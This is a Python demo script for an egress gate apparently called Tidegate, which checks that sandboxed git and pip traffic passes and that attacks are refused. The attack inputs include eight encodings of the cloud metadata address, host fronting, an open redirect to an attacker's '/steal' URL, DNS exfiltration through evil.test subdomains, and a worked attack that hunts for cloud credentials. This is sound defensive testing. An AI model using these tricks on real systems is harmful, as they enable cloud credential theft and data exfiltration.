"""`make demo`: what passes, what is refused, the log of both, and the worked attack, on real input.

As root the client is a network namespace whose only neighbour is the gate. Without root the same steps
run on loopback, which shows the decisions and the log, but is no wall; the first line says which it is.

Longer than a module should be, since it is one story.
"""

import contextlib
import importlib.util
import ipaddress
import os
import re
import secrets
import shutil
import socket
import subprocess
import sys
import tempfile
import time
from collections.abc import Mapping, Sequence
from pathlib import Path
from typing import Any

import yaml

from tests.lab.attack import Attack, Secrets, attack, attack_credentials, why_no_attack
from tests.lab.attack_screen import show_attack
from tests.lab.certs import Authority
from tests.lab.gate import Gate, GateDied, Session, configuration, environment, gate, tidegate_command
from tests.lab.internet import API, ATTACKER, CODE, REBIND, Internet, internet, loopback_place, world_place
from tests.lab.screen import Failed, Screen, require
from tests.lab.sockets import free_port
from tests.lab.world import World, relay, why_no_world, world

__all__ = ["main"]

PACKAGE = "iniconfig"
SPELLINGS = (
    "169.254.169.254",
    "2852039166",
    "0xa9fea9fe",
    "0251.0376.0251.0376",
    "169.254.43518",
    "[::ffff:169.254.169.254]",
    "[64:ff9b::a9fe:a9fe]",
    "metadata.google.internal",
)


_HELPER = '!f() { printf "username=x-access-token\\npassword=%s\\n" "$CODE_TOKEN"; }; f'


class Client:
    """The sandbox: runs commands in its namespace with a session's environment and nothing else of ours."""

    def __init__(self, net: Internet, session: Session, home: Path) -> None:
        self.net = net
        self.home = home
        self.env = {"PATH": os.environ["PATH"], "HOME": str(home), "LANG": "C.UTF-8", **session.env}
        self.env |= {"GIT_TERMINAL_PROMPT": "0", "GIT_CONFIG_NOSYSTEM": "1", "PIP_CONFIG_FILE": os.devnull}
        self.proxy = session.proxy_url
        # The environment's helper is for port 443, as policies are by default.
        self.git = ("git",) if net.place.https_port == 443 else ("git", "-c", f"credential.helper={_HELPER}")

    def run(
        self, *command: str, env: Mapping[str, str] | None = None, timeout: float = 60, check: bool = True
    ) -> subprocess.CompletedProcess[str]:
        """Run a command; raise `Failed` with its last words unless it ends with 0."""
        done = subprocess.run(
            [*self.net.place.client_prefix, *command],
            cwd=self.home,
            env={**self.env, **(env or {})},
            capture_output=True,
            text=True,
            timeout=timeout,
            stdin=subprocess.DEVNULL,
        )
        if check and done.returncode:
            words = (done.stderr.strip() or done.stdout.strip()).splitlines()
            raise Failed(f"{command[0]} ended with {done.returncode}: {words[-1] if words else ''}")
        return done

    def curl(self, *arguments: str) -> tuple[int, str]:
        """Run curl; return the status of the last reply (of the CONNECT, if that was refused) and the body."""
        form = "\n%{http_code} %{http_connect}"
        done = self.run("curl", "-sS", "-m", "20", "-w", form, *arguments, check=False)
        body, _, codes = done.stdout.rpartition("\n")
        status, connect = (int(code) for code in codes.split())
        return status or (connect if connect != 200 else 0), body


def policy(net: Internet, *, pip: Mapping[str, Any] | None) -> dict[str, Any]:
    """Return the policy of the demo."""
    place = net.place
    common = {"addresses": [place.network], "ports": [place.https_port]}
    return {
        "use": [pip] if pip else [],
        "allow": [
            {"host": API, "credential": "partner", **common},
            {"host": REBIND, **common},
            {"host": CODE, "paths": ["/acme/**"], "credential": "code", **common},
        ],
    }


def task_policy(net: Internet) -> dict[str, Any]:
    """Return the policy of the code in the worked attack: what its task needs."""
    place = net.place
    rule = {"host": API, "methods": ["GET"], "credential": "cloud"}
    return {"allow": [{**rule, "addresses": [place.network], "ports": [place.https_port]}]}


CREDENTIALS = {
    "code": {
        "source": {"env": "DEMO_CODE_TOKEN"},
        "for": [{"host": CODE, "paths": ["/acme/**"]}],
        "place": {"basic": {"user": "x-access-token", "password": "{secret}"}},
        "placeholder": {"env": "CODE_TOKEN"},
    },
    "partner": {
        "source": {"env": "DEMO_PARTNER_KEY"},
        "for": [{"host": API}],
        "place": {"header": "Authorization", "format": "Bearer {secret}"},
        "placeholder": {"env": "PARTNER_KEY"},
    },
}


# ---- the package index, found by `policy lock` ---------------------------------------------------------------


def operator_environment() -> dict[str, str]:
    """Return this machine's environment without pip's settings, but for the index that it names."""
    keep = {"PIP_INDEX_URL", "PIP_EXTRA_INDEX_URL", "PIP_CONFIG_FILE"}
    return {name: value for name, value in environment().items() if not name.startswith("PIP_") or name in keep}


def lock_index(screen: Screen, folder: Path) -> tuple[dict[str, Any], str]:
    """Run `policy lock`; return the `use:` entry that it takes here and the lock's text, "" if it failed."""
    config, lock = folder / "tidegate.yaml", folder / "tidegate.lock"
    use: dict[str, Any] = {"preset": "pip"}

    def run() -> subprocess.CompletedProcess[str]:
        whole = {"version": 1, "state_dir": str(folder / "state"), "policies": {"default": {"use": [use]}}}
        config.write_text(yaml.safe_dump(whole))
        command = tidegate_command("policy", "lock", "--config", str(config))
        env = operator_environment()
        return subprocess.run(command, cwd=folder, env=env, capture_output=True, text=True, timeout=120, check=False)

    with screen.step("tidegate policy lock (discover: pip)") as say:
        done = run()
        # Once for the index, once more if its files lie elsewhere.
        for _turn in range(3):
            wanted = re.search(r"addresses:\s*\[([^\]]+)\]", done.stdout + done.stderr)
            if not done.returncode or wanted is None:
                break
            found = [part.strip().strip("\"'") for part in wanted.group(1).split(",")]
            use["addresses"] = sorted({*use.get("addresses", ()), *found})
            done = run()
        if "addresses" in use:
            say(f"special address: added «addresses: [{', '.join(use['addresses'])}]»")
        require(done.returncode == 0, done.stderr or done.stdout)
        say(f"{len(_locked(lock.read_text()))} host(s) locked, GET and HEAD only")
    return use, lock.read_text() if lock.exists() else ""


def _index_url() -> str | None:
    """Return the index that the machine's pip is configured for; None is pip's own default."""
    env = operator_environment()
    if "PIP_INDEX_URL" in env:
        return env["PIP_INDEX_URL"]
    asked = subprocess.run(
        [*_pip_command(), "config", "get", "global.index-url"], env=env, capture_output=True, text=True, timeout=60
    )
    return asked.stdout.strip() or None


def _locked(text: str) -> list[tuple[str, int]]:
    if not text:
        return []
    hosts = yaml.safe_load(text)["hosts"].get("pip", [])
    return [(entry["host"], entry["port"]) for entry in hosts]


def _real_addresses(host: str) -> list[str]:
    with contextlib.suppress(ValueError):
        return [str(ipaddress.ip_address(host))]
    return sorted({str(entry[4][0]) for entry in socket.getaddrinfo(host, None, type=socket.SOCK_STREAM)})


def _pip_command() -> list[str]:
    if importlib.util.find_spec("pip"):
        return [sys.executable, "-m", "pip"]
    found = shutil.which("pip3") or shutil.which("pip")
    require(found, "this machine has no pip")
    return [str(found)]


# ---- what must pass ------------------------------------------------------------------------------------------


def show_git(screen: Screen, client: Client, tokens: Mapping[str, str]) -> None:
    """Clone and push with a placeholder."""
    net, url = client.net, client.net.place.url(CODE, "/acme/demo.git")
    work = client.home / "demo"
    with screen.step("git clone") as say:
        client.run(*client.git, "clone", "--quiet", url, str(work))
        files = len(list(work.glob("*.txt")))
        require(files == 20, f"{files} files")
        say(f"{files} files; the placeholder went in, the server saw the token")
    with screen.step("git push") as say:
        (work / "answer.txt").write_text("42\n")
        git = (*client.git, "-C", str(work), "-c", "user.name=Sandbox", "-c", "user.email=sandbox@code.test")
        client.run(*git, "add", "answer.txt")
        client.run(*git, "commit", "--quiet", "-m", "Answer")
        client.run(*git, "push", "--quiet", "origin", "HEAD:main")
        heads = subprocess.run(
            ["git", "-C", str(net.repository), "log", "--format=%s", "main"], capture_output=True, text=True, check=True
        )
        require(heads.stdout.splitlines() == ["Answer", "Begin"], "the commit did not arrive")
        held = [path for path in client.home.rglob("*") if path.is_file() and _holds(path, tokens)]
        require(not held, f"a token lies in the sandbox: {held}")
        say("1 commit arrived; no file of the sandbox holds a token")


def _holds(path: Path, tokens: Mapping[str, str]) -> bool:
    data = path.read_bytes()
    return any(token.encode() in data for token in tokens.values())


def show_pip(screen: Screen, client: Client, running: Gate, hosts: Sequence[tuple[str, int]]) -> None:
    """Install a package from the machine's own index, with no other source."""
    with screen.step(f"pip install {PACKAGE}") as say:
        target, index = client.home / "packages", _index_url()
        client.run(
            *_pip_command(),
            *("install", "--quiet", "--disable-pip-version-check", "--no-input", "--no-cache-dir", "--no-deps"),
            *("--retries", "0", "--target", str(target), PACKAGE),
            env={"PIP_INDEX_URL": index} if index else {},
            timeout=120,
        )
        require((target / PACKAGE).is_dir(), "nothing was installed")
        names = {host for host, _ in hosts}
        records = running.wait_audit(
            lambda lines: sum(line["http"]["bytes_down"] or 0 for line in lines if line["http"]["host"] in names) > 0,
            type="http",
            phase="end",
        )
        ours = [line for line in records if line["http"]["host"] in names]
        down = sum(line["http"]["bytes_down"] or 0 for line in ours)
        say(f"{down} bytes in {len(ours)} http records; the index's own certificate, checked by the system's roots")


# ---- what must not -------------------------------------------------------------------------------------------


def _reason(body: str) -> str:
    """Return the reason that a refusal gives; one that gives none is no step of the demo."""
    found = re.search(r'"reason"\s*:\s*"([a-z_]+)"', body)
    if found is None:
        raise Failed("the refusal gave no reason")
    return found.group(1)


def show_metadata(screen: Screen, client: Client) -> None:
    """Ask for metadata in eight spellings, each byte for byte as written here."""
    for spelling in SPELLINGS:
        with screen.step(f"http://{spelling}/") as say:
            target = f"http://{spelling}/latest/meta-data/"
            status, body = client.curl(
                "--proxy",
                client.proxy,
                "--request-target",
                target,
                "-H",
                f"Host: {spelling}",
                "http://as.written.test/",
            )
            require(status in (400, 403), f"status {status}")
            say(f"{status} {_reason(body)}")
    metadata = client.net.metadata
    require(metadata is None or metadata.connections == 0, "the metadata service was reached")


def show_rebinding(screen: Screen, client: Client, running: Gate) -> None:
    """Ask twice for a name whose address changes between."""
    url = client.net.place.url(REBIND, "/status/200")
    with screen.step("a name that rebinds") as say:
        first, _ = client.curl(url)
        require(first == 200, f"first look-up: {first}")
        second, body = client.curl(url)
        require(second == 502, f"second look-up: {second}")
        logged = running.wait_audit(reason="resolved_metadata")
        say(f"first 200, then {second} {_reason(body)} (in the log: {logged[0]['reason']})")


def show_tricks(screen: Screen, client: Client) -> None:
    """Front a Host, follow an open redirect, leak by DNS, go around."""
    net = client.net
    place = net.place
    evil = place.url(ATTACKER, "/steal")
    with screen.step("a fronted Host") as say:
        status, body = client.curl("-H", f"Host: {ATTACKER}", place.url(API, "/echo"))
        require(status == 421, f"status {status}")
        say(f"{status} {_reason(body)}")
    with screen.step("an open redirect") as say:
        status, body = client.curl("-L", place.url(API, f"/redirect?to={evil}"))
        require(status == 403, f"status {status}")
        say(f"{status} {_reason(body)}; the attacker's server saw {net.attacker.connections} connections")
        require(net.attacker.connections == 0, "the attacker was reached")
    with screen.step("data in a name") as say:
        # At a port that a rule names: any other is refused at CONNECT, of whose answer curl shows no body.
        status, body = client.curl(place.url(f"{secrets.token_hex(12)}.evil.test"))
        require(status == 403, f"status {status}")
        asked = net.dns.count("*.evil.test")
        require(asked == 0, f"{asked} queries left")
        say(f"{status} {_reason(body)}; {asked} DNS queries left the gate")
    if place.walled:
        with screen.step("around the gate") as say:
            done = client.run("curl", "-sS", "-m", "5", "--noproxy", "*", f"https://{place.attacker}/", check=False)
            require(done.returncode == 7, f"curl ended with {done.returncode}")
            say("no route: the gate is the only neighbour")


def show_reflection(screen: Screen, client: Client, tokens: Mapping[str, str]) -> None:
    """Have the API say back what it was sent."""
    with screen.step("a secret said back") as say:
        placeholder = client.env["PARTNER_KEY"]
        url = client.net.place.url(API, "/reflect")
        status, body = client.curl("-H", f"Authorization: Bearer {placeholder}", url)
        seen = client.net.api.requests[-1].header("authorization")
        require(status == 200, f"status {status}")
        require(seen == f"Bearer {tokens['DEMO_PARTNER_KEY']}", "the API did not see the key")
        require(tokens["DEMO_PARTNER_KEY"] not in body, "the sandbox saw the key")
        require(placeholder in body, "the placeholder is not in its place")
        say("the API saw the key, the sandbox got its placeholder back")


def show_log(screen: Screen, running: Gate) -> None:
    """Read the log."""
    screen.title("tidegate log --verdict deny   (the last lines)")
    screen.lines(running.cli("log", "--verdict", "deny").stdout, limit=8)


def show_verify(screen: Screen, running: Gate) -> None:
    """Verify the log, all of it."""
    with screen.step("tidegate audit verify") as say:
        said = _verify(running)
        require(said.returncode == 0, said.stderr)
        say(said.stderr.strip().removeprefix("tidegate: "))


def _verify(running: Gate, *, seconds: float = 10) -> subprocess.CompletedProcess[str]:
    """Verify the log as soon as all but its newest lines are signed; the gate signs once a second here."""
    deadline = time.monotonic() + seconds
    while True:
        directory, key = running.state / "audit", running.state / "audit.pub"
        said = running.cli("audit", "verify", str(directory), "--key", str(key), check=False)
        unsigned = re.search(r"(\d+) not yet under a signature", said.stderr)
        if (said.returncode == 0 and (not unsigned or int(unsigned.group(1)) <= 6)) or time.monotonic() > deadline:
            return said
        time.sleep(0.5)


# ---- the whole -----------------------------------------------------------------------------------------------


def demo(screen: Screen, stack: contextlib.ExitStack, made: World | None) -> None:
    """Run every step in `made`, or on loopback."""
    folder = Path(stack.enter_context(tempfile.TemporaryDirectory(prefix="tg-demo-", dir="/tmp")))
    folder.chmod(0o755)
    tokens = {"DEMO_CODE_TOKEN": secrets.token_urlsafe(30), "DEMO_PARTNER_KEY": secrets.token_urlsafe(30)}
    known = Secrets.made()
    credentials, more = attack_credentials(known)
    place = world_place(made) if made else loopback_place()
    ca = stack.enter_context(Authority())

    screen.title("what passes")
    use, lock = lock_index(screen, folder)
    names = {host: _real_addresses(host) for host, _ in _locked(lock)}
    if made:
        _bring_near(stack, made, {(address, port) for host, port in _locked(lock) for address in names[host]})
    net = stack.enter_context(internet(place, ca, git_token=tokens["DEMO_CODE_TOKEN"], names=names))

    whole = configuration(ca=ca, credentials=CREDENTIALS | credentials)
    whole["policies"] = {"default": policy(net, pip=use if lock else None), "task": task_policy(net)}
    whole["audit"] = {"checkpoint_seconds": 1}
    whole["resolver"] = {"servers": [net.dns.address]} if made else {"zones": {"test.": [net.dns.address]}}
    with screen.step("tidegate up") as say:
        running = stack.enter_context(
            gate(
                whole,
                env=tokens | more,
                host=place.gate_host,
                port=8080 if made else free_port(),
                prefix=place.gate_prefix,
                files={"tidegate.lock": lock} if lock else {},
                timeout=60,
            )
        )
        session = running.session(credentials=["code", "partner"])
        say(f"ready; session {session.id} holds {len(CREDENTIALS)} placeholders and no secret")
    home = folder / "sandbox"
    home.mkdir()
    client = Client(net, session, home)
    show_git(screen, client, tokens)
    if lock:
        show_pip(screen, client, running, _locked(lock))
    show_reflection(screen, client, tokens)
    screen.title("what does not")
    show_metadata(screen, client)
    show_rebinding(screen, client, running)
    show_tricks(screen, client)
    show_log(screen, running)
    screen.title("the worked attack: code that looks for cloud credentials and posts them out")
    if made is None or (reason := why_no_attack()) is not None:
        screen.note(f"NOT SHOWN: {'it needs network namespaces' if made is None else reason}")
    else:
        ready: Attack | None = None
        with screen.step("tidegate image import minimal") as say:
            ready = stack.enter_context(attack(made, net, running, known, ca=ca.pem))
            say(ready.root.parent.name[:12])
        if ready is not None:
            show_attack(screen, ready, client.curl)
    show_verify(screen, running)


def _bring_near(stack: contextlib.ExitStack, made: World, places: set[tuple[str, int]]) -> None:
    """Let the index be reached at its own addresses in the internet of namespaces."""
    made.give(*{address for address, _ in places})
    for address, port in places:
        stack.enter_context(relay(made, address, port))


def main() -> int:
    """Run the demo; return 1 if any step did not do what it must."""
    screen = Screen()
    reason = why_no_world()
    with contextlib.ExitStack() as stack:
        if reason is None:
            screen.title("Tidegate demo: the client is a network namespace; its only neighbour is the gate")
            made = stack.enter_context(world())
        else:
            screen.title(f"Tidegate demo on loopback: decisions and log are real, THERE IS NO WALL ({reason})")
            made = None
        try:
            demo(screen, stack, made)
        except GateDied as error:
            print(error, file=sys.stderr)
            return 1
    print(f"{screen.failures} step(s) failed" if screen.failures else "all as it must be")
    return 1 if screen.failures else 0


if __name__ == "__main__":
    sys.exit(main())
